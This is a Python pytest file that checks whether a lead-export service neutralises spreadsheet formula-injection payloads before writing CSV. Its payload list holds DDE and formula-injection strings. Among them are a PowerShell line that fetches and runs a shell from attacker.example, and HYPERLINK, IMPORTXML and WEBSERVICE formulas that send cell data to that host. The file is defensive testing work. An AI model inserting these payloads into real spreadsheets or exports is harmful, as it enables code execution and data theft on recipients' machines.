"""Known payloads against spreadsheets, through the whole way: loaded, bought, exported, and opened by a spreadsheet
reader. None of them arrives as a formula."""

import csv
import io
from datetime import datetime, timedelta
from typing import Any

import pytest
from openpyxl import Workbook

from exports.columns import COLUMNS
from exports.services import export_start_order, export_stream
from homeshield.lib.spreadsheet_cells import harmless
from inventory.facts.criteria import Criteria
from leads.age import AgeBucket
from leads.classification import Classification
from tests.factories import ClientFactory, stock
from tests.sales.purchases import buy, set_prices

GOLD = Criteria(classification=Classification.GOLD, age_bucket=AgeBucket.MONTH_6_TO_8)
TEXT = [column.header for column in COLUMNS if column.from_outside]

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("https://attacker.example/?leak="&A1&B1, "Error: click for details")',
    '=IMPORTXML(CONCAT("https://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("https://attacker.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "-1",
    "+1-318-100-0100",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\t\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b＠SUM(1+1)",
    "==1+1",
    "+=1+1",
    "-=@+1",
    "=\t+\r@-cmd|' /C calc'!A0",
    '=1+1";=1+1;"',
    "=1+1,=2+2\n=3+3",
    "%0A-3+3+cmd|' /C calc'!D2",
    "=",
    "+-@=",
]


FIRST = tuple("=+-@＝＋－＠\t\r\n \u3000\ufeff\u200b")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute the cell: by openpyxl, and by the first characters that Excel and its like
    take for a formula as well."""
    sheet = Workbook().active
    assert sheet is not None
    cell_there = sheet.cell(row=1, column=1, value=cell)
    return bool(cell_there.data_type == "f") or cell.startswith(FIRST)


def test_the_reader_knows_a_formula() -> None:
    """The control: by itself nearly every payload is one."""
    assert [payload for payload in PAYLOADS if not is_formula(payload.lstrip("\t\r"))] == ["%0A-3+3+cmd|' /C calc'!D2"]


@pytest.mark.django_db
def test_no_known_payload_arrives_as_a_formula_in_any_column(as_of: datetime) -> None:
    set_prices(since=as_of - timedelta(days=1))
    for payload in PAYLOADS:
        facts: dict[str, Any] = dict.fromkeys(TEXT, payload) | {"county": "Caddo"}
        stock(1, as_of=as_of, **facts)
    client = ClientFactory()
    order = buy(client, len(PAYLOADS), GOLD, as_of=as_of)
    export = export_start_order(client_id=client.id, user=None, order_id=order.id, as_of=as_of)

    text = b"".join(export_stream(export)).decode()

    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) == len(PAYLOADS)
    assert [cell for row in rows for cell in row.values() if is_formula(cell)] == []
    left = sorted(map(harmless, PAYLOADS))
    assert sorted(row["lender"] for row in rows) == left
